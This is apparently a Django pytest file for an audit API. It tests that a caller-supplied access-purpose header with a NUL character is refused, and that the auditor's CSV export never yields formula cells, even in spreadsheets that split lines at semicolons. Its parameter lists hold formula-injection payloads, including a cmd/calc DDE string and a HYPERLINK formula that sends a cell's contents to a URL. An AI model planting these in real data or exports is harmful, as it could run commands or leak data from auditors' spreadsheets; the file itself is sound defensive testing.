"""Attacks through X-Access-Purpose, the purpose a caller states for its reads, stored
with every access event the request writes.

Hole: a NUL character in the header. PostgreSQL's text cannot hold one, so the access
events' INSERT fails and the audit fails closed: every read a caller makes with it is
answered 500 "The access could not be recorded", logged as an audit failure, and a
PATCH sent with it is rolled back after the fact — any signed-in caller sets off the
audit's alarm at will (found on PostgreSQL; SQLite stored the NUL in the audit trail).
The rest of the API refuses a NUL as input, in names and values (lib/api.py): a purpose
holding one is refused before anything is read or written, 400 in the API's one error
shape, and no access event is written.

Hole: the auditor's CSV export (Audit › Access events) neutralises a cell that starts
with a formula trigger, but a spreadsheet whose locale separates lists with ";" (those
where "," is the decimal mark: Excel in most of Europe opens a .csv with its list
separator) splits the line at every ";", so `ticket 4;=HYPERLINK("https://…?"&A1)`
as a purpose became a cell of its own starting with "=", a formula in the auditor's
spreadsheet.

Held: a purpose that is a formula, or holds the other control characters, is recorded
as sent (tests/audit/test_csv_export.py: the export writes a leading formula as text).
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.test import Client

from audit.models import AccessEvent
from customers.models import Person
from lib.spreadsheet import FORMULA_TRIGGERS
from sorn.constants import Role
from tests.access.conftest import USPS_810, person_in

pytestmark = pytest.mark.django_db(databases=["default", "keystore"])


@pytest.fixture
def ada():
    return person_in("C10000001", USPS_810, given_name="Ada")


@pytest.fixture
def client(staff_user) -> Client:
    client = Client()
    client.force_login(staff_user(Role.CUSTOMER_SERVICE))
    client.raise_request_exception = False
    return client


def test_a_nul_in_the_purpose_is_refused_before_anything_is_read(client, ada):
    answers = [
        client.get("/api/v1/customers/", HTTP_X_ACCESS_PURPOSE="ticket 4\x00"),
        client.get(f"/api/v1/customers/{ada.pk}/", HTTP_X_ACCESS_PURPOSE="\x00"),
        client.post(
            "/api/v1/customers/search/",
            json.dumps({"name": "Ada"}),
            content_type="application/json",
            HTTP_X_ACCESS_PURPOSE="a\x00b",
        ),
    ]
    assert [a.status_code for a in answers] == [400, 400, 400]
    assert all(a.json()["error"] == "bad_request" for a in answers)
    assert all("Ada" not in a.content.decode() for a in answers)
    assert not AccessEvent.objects.exists()


def test_a_patch_with_a_nul_in_the_purpose_changes_nothing(client, ada):
    answer = client.patch(
        f"/api/v1/customers/{ada.pk}/",
        json.dumps({"given_name": "Eve"}),
        content_type="application/json",
        HTTP_IF_MATCH="*",
        HTTP_X_ACCESS_PURPOSE="correction\x00",
    )
    assert answer.status_code == 400
    assert Person.objects.get(pk=ada.pk).given_name == "Ada"
    assert not AccessEvent.objects.exists()


def test_the_admin_refuses_it_too(client, ada):
    answer = client.get("/admin/customers/person/", HTTP_X_ACCESS_PURPOSE="\x00")
    assert answer.status_code == 400
    assert not AccessEvent.objects.exists()


# Held -----------------------------------------------------------------------------------

RECORDED = ["=1+cmd|' /C calc'!A0", "tab\tand\x01control", "ticket 4 ; =HYPERLINK(1)"]


@pytest.mark.parametrize("purpose", RECORDED)
def test_any_other_purpose_is_recorded_as_sent(client, ada, purpose):
    answer = client.get("/api/v1/customers/", HTTP_X_ACCESS_PURPOSE=purpose)
    assert answer.status_code == 200
    assert AccessEvent.objects.get().purpose == purpose


SPLIT_FORMULAS = [
    'ticket 4;=HYPERLINK("https://example.org/?"&A1,"open")',
    "a;+1+cmd|' /C calc'!A0",
    "a;;-2+3;@SUM(1)",
    "a;\t=1+1",
    'a;"=1+1"',
]


@pytest.mark.parametrize("purpose", SPLIT_FORMULAS)
def test_no_cell_of_the_export_is_a_formula_where_lists_are_split_at_semicolons(
    client, staff_user, ada, purpose
):
    assert client.get("/api/v1/customers/", HTTP_X_ACCESS_PURPOSE=purpose).status_code == 200
    event = AccessEvent.objects.get()
    auditor = Client()
    auditor.force_login(staff_user(Role.AUDITOR))
    export = auditor.post(
        "/admin/audit/accessevent/", {"action": "export_events", "_selected_action": [event.pk]}
    )
    assert export.status_code == 200
    text = export.content.decode()
    # As a comma-separated file: the purpose is one cell, and no formula.
    header, row = csv.reader(io.StringIO(text))
    assert not row[header.index("purpose")].startswith(FORMULA_TRIGGERS)
    # As a spreadsheet splitting each line at ";" reads it: no cell starts a formula,
    # its quotes taken off.
    cells = [cell.lstrip('"') for line in text.splitlines() for cell in line.split(";")]
    assert [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)] == []
